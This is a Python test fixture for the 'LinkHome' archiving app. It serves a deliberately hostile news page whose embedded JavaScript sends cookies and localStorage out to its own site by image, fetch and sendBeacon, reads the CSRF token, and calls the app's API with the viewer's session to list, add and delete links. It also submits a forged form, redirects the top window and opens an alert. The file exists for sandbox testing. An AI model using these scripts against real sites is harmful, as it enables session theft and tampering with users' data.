"""A hostile page for the sandbox tests: its scripts try everything an archived page must
never manage once LinkHome serves it.

It reads document.cookie and localStorage and sends them home (image, fetch and
sendBeacon to its own site), calls the REST API with the viewer's session (list, add,
delete), posts a form to the app's add page, navigates the top window, opens a dialog and
has a meta refresh. Every attempt that gets anywhere reaches either its own site (whose
LocalHTTPServer logs every request) or LinkHome (whose access log and data show it).
"""

import html
from dataclasses import dataclass

from linkhome.testing.http import LocalHTTPServer

GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
PROBE = "Harbour traffic rose by a fifth in the third quarter"
PARAGRAPHS = [
    f"{PROBE}, the port authority said on Tuesday, as container ships returned to the "
    "northern berths after a year of repairs to the breakwater.",
    "Officials expect the new cranes to shorten the time a ship waits for a berth, though "
    "dock workers warned that the night shifts are still short of staff.",
    "The authority will publish its full figures for the year in February, together with "
    "a plan for the dredging of the eastern channel.",
]
# The attacks, each wrapped so one blocked call cannot stop the others. LINKHOME is the
# app's origin: a script on it would hold the viewer's session and CSRF cookie.
SCRIPT = """
(function () {
  var HOME = "%(home)s", LINKHOME = "%(linkhome)s", WHO = "%(who)s";
  function beacon(what, value) {
    var v = encodeURIComponent(String(value)).slice(0, 800);
    try { new Image().src = HOME + "/beacon/" + WHO + "/" + what + "?v=" + v; } catch (e) {}
    try { navigator.sendBeacon(HOME + "/beacon/" + WHO + "/send-" + what, v); } catch (e) {}
    try { fetch(HOME + "/beacon/" + WHO + "/fetch-" + what + "?v=" + v, {mode: "no-cors"}); } catch (e) {}
  }
  function attempt(what, f) { try { f(); } catch (e) { beacon(what + "-error", e); } }
  beacon("ran", location.href);
  attempt("cookie", function () { beacon("cookie", document.cookie); });
  attempt("localstorage", function () {
    beacon("localstorage", JSON.stringify(Object.assign({}, localStorage)));
    localStorage.setItem("hostile", "was here");
  });
  var csrf = ((document.cookie || "").match(/csrftoken=([^;]+)/) || [])[1] || "";
  var json = {"Content-Type": "application/json", "X-CSRFToken": csrf};
  attempt("api-list", function () {
    fetch(LINKHOME + "/api/links", {credentials: "include"})
      .then(function (r) { return r.text(); }).then(function (t) { beacon("api-links", t); });
  });
  attempt("api-add", function () {
    fetch(LINKHOME + "/api/links", {method: "POST", credentials: "include", headers: json,
      body: JSON.stringify({url: HOME + "/planted-by-api"})});
  });
  attempt("api-delete", function () {
    for (var id = 1; id <= 12; id++) {
      fetch(LINKHOME + "/api/links/" + id, {method: "DELETE", credentials: "include",
        headers: {"X-CSRFToken": csrf}});
    }
  });
  setTimeout(function () { attempt("form", function () {
    var sink = document.createElement("iframe");
    sink.name = "hostile-sink"; sink.style.display = "none";
    document.body.appendChild(sink);
    var form = document.createElement("form");
    form.method = "POST"; form.action = LINKHOME + "/add/"; form.target = "hostile-sink";
    [["url", HOME + "/planted-by-form"], ["csrfmiddlewaretoken", csrf]].forEach(function (kv) {
      var input = document.createElement("input");
      input.type = "hidden"; input.name = kv[0]; input.value = kv[1];
      form.appendChild(input);
    });
    document.body.appendChild(form);
    form.submit();
  }); }, 300);
  setTimeout(function () {
    attempt("top", function () { top.location = HOME + "/evil/top-navigation?t=" + Date.now(); });
    attempt("alert", function () { alert("hostile " + document.domain); });
  }, 1200);
})();
"""


@dataclass
class HostileSite:
    """The hostile page's own site; `server.requests` is its log of everything that arrived."""

    server: LocalHTTPServer
    linkhome: str  # the app's origin the scripts attack

    @property
    def home(self) -> str:
        return self.server.url("").rstrip("/")

    def seen(self, since: int = 0) -> list[str]:
        """The paths requested since log entry `since`."""
        return [f"{method} {path}" for method, path, _ in self.server.requests[since:]]

    def beacons(self, since: int = 0) -> list[str]:
        return [line for line in self.seen(since) if "/beacon/" in line or "/evil/" in line]


def serve_hostile(server: LocalHTTPServer, linkhome: str) -> HostileSite:
    site = HostileSite(server, linkhome)
    server.route("/hostile.html", body=_page(site))
    server.route("/evil.js", body=_script(site, "external").encode(), headers=_JS)
    server.route("/pixel.gif", body=GIF, headers=[("Content-Type", "image/gif")])
    server.route("/canary.html", body=_canary())
    return site


_JS = [("Content-Type", "text/javascript; charset=utf-8")]


def _script(site: HostileSite, who: str) -> str:
    return SCRIPT % {"home": site.home, "linkhome": site.linkhome, "who": who}


def _page(site: HostileSite) -> bytes:
    body = "\n".join(f"<p>{html.escape(p)}</p>" for p in PARAGRAPHS)
    return f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<meta http-equiv="refresh" content="2;url={site.home}/evil/meta-refresh">
<title>Harbour traffic report</title>
<script>{_script(site, "inline")}</script>
<script src="{site.home}/evil.js"></script>
</head>
<body onload="new Image().src='{site.home}/beacon/onload/ran'">
<article><h1>Harbour traffic report</h1>
<img src="{site.home}/pixel.gif" alt="" width="1" height="1">
{body}
</article></body></html>
""".encode()


def _canary() -> bytes:
    """A harmless page the owner also keeps: the hostile scripts try to delete its link."""
    return (
        b"<!doctype html><html><head><meta charset='utf-8'><title>Canary notes</title></head>"
        b"<body><article><h1>Canary notes</h1><p>The canary sang at dawn every day of the "
        b"long winter, and the miners listened before they went down.</p></article></body></html>"
    )
